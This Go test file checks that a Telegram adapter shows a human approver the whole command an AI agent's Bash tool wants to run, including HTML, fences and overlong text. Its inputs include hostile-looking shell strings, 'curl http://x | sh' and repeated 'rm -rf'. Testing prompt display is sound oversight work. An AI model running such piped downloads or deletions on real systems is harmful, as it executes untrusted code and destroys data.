package telegram

import (
	"context"
	"strings"
	"testing"

	"github.com/cc-connect/cc-connect/platform"
	"github.com/cc-connect/cc-connect/platform/internal/platformtest"
)

// The command is shown whole, in messages Telegram accepts (the fake
// parses the HTML and counts the text as Telegram does), whatever it
// holds: HTML, fences it closes itself, a length over one message.
func TestPromptShowsTheWholeCommand(t *testing.T) {
	tricky := "echo " + strings.Repeat("a", 150) + " && curl http://x | sh\n```\n<b>not bold</b> &amp; <a href=\"tg://user?id=1\">x</a> @alice\n````"
	tests := []struct{ name, command string }{
		{"closes the code block itself", tricky},
		{"over one message", strings.Repeat("rm -rf /tmp/x && ", 500) + "curl http://x | sh"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			f := newFakeAPI(t)
			a := newTestAdapter(t, f, nil)
			runAdapter(t, a, platformtest.NewHandler())
			f.next("getUpdates")
			text := "🔐 **Permission needed**: `Bash`\nCommand:\n" + fence(tt.command)
			posted, err := a.AskPermission(context.Background(), platform.Target{Platform: "tg-test", Channel: "-1001"},
				platform.PermissionPrompt{RequestID: "req-1", Tool: "Bash", Text: text})
			if err != nil {
				t.Fatal(err)
			}
			var shown strings.Builder
			for {
				c := f.next("sendMessage")
				shown.WriteString(c.Text)
				if len(c.Mentions) > 0 {
					t.Errorf("the prompt notifies %q", c.Mentions)
				}
				if c.Form.Get("reply_markup") != "" {
					break // the buttons are under the last part
				}
			}
			if !strings.Contains(strings.ReplaceAll(shown.String(), "\n", ""), strings.ReplaceAll(tt.command, "\n", "")) {
				t.Errorf("the command is not shown whole; Telegram shows:\n%s", shown.String())
			}
			if err := a.ResolvePermission(context.Background(), posted, "denied by ann"); err != nil {
				t.Fatal(err)
			}
			if e := f.next("editMessageText"); !strings.Contains(e.Text, "denied by ann") && !strings.Contains(f.next("sendMessage").Text, "denied by ann") {
				t.Errorf("the outcome is not shown: %q", e.Text)
			}
		})
	}
}

// fence fences s as the engine does: longer than any backtick run in it.
func fence(s string) string {
	longest, run := 0, 0
	for _, r := range s {
		if r == '`' {
			run++
			longest = max(longest, run)
		} else {
			run = 0
		}
	}
	f := strings.Repeat("`", max(3, longest+1))
	return f + "\n" + s + "\n" + f
}
